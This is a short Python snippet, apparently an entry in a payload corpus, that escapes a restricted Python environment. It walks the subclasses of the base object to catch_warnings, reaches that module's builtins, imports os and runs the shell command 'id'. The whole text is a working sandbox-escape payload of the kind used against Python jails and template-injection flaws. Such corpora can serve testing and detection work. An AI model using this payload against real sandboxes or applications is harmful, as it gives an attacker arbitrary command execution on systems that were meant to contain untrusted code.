# corpus: ().__class__.__base__.__subclasses__() walk to catch_warnings and its module's builtins
for cls in ().__class__.__base__.__subclasses__():
    if cls.__name__ == "catch_warnings":
        builtins = cls()._module.__builtins__
        builtins["__import__"]("os").system("id")
        break
